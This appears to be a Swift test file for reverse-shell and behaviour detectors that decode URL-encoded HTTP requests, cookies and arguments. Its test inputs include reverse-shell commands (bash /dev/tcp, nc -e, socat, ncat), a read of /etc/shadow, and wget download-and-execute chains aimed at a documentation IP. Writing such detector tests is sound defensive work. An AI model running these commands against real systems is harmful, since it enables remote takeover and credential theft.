import Bytes
import Testing

@testable import Detectors

private func shell(_ text: String) -> TextDetection? {
  text.withView { ReverseShellDetector().scan($0, .command) }.first
}

private func rules(_ text: String) -> [String] { text.withView { BehaviourDetector().scan($0, .command) }.map(\.rule) }

@Suite struct QueryValuesTests {
  /// The first of a body or a cookie, one in quotes or behind a header's name, one of a list.
  @Test(arguments: [
    "POST / HTTP/1.1\r\nHost: h\r\n\r\ncmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.9%2F4242+0%3E%261",
    "curl -d 'cmd=nc%20-e%20/bin/sh%20198.51.100.9%204242' http://h.example/x",
    "Cookie: cmd=nc%20-e%20/bin/sh%20198.51.100.9%204242; a=b", "args=\"cmd=nc+-e+/bin/sh+198.51.100.9+4242\"",
    "/index.php?s=a&vars[1][]=nc%20-e%20/bin/sh%20198.51.100.9%204242",
    "GET /x?cmd=socat+tcp:198.51.100.9:4242+exec:sh HTTP/1.1", "/x?cmd=nc+198.51.100.9+4242+|+sh",
    "/x?cmd=ncat+--exec+/bin/bash+198.51.100.9+4242",
  ])
  func valuesOfRequestsAreDecoded(text: String) {
    let found = shell(text)
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// Blanks written as plus signs and nothing else encoded.
  @Test func plusSignsAreBlanksOfAQuery() {
    #expect(rules("GET /x?cmd=cat+/etc/shadow HTTP/1.1") == ["behaviour.password-hashes"])
    #expect(
      rules("GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/j;sh+/tmp/j HTTP/1.1")
        .contains("behaviour.download-execute"))
    #expect(
      rules("POST /t HTTP/1.1\r\n\r\nip=-h+`cd+/tmp;wget+http://198.51.100.9/x;chmod+777+x;./x`&a=")
        .contains("behaviour.download-execute"))
  }

  @Test(arguments: [
    "date +%F", "GET /search?q=how+to+cat+files HTTP/1.1", "GET /docs?page=a+/etc/hosts+entry HTTP/1.1",
    "git log --format=%h%20%s", "curl -w '%{http_code}' -d 'a=1+2' http://h.example/",
    "POST / HTTP/1.1\r\n\r\ntext=use%20nc%20to%20test%20port%204242",
  ])
  func ordinaryValuesStayQuiet(text: String) {
    #expect(shell(text) == nil)
    #expect(rules(text).isEmpty)
  }
}
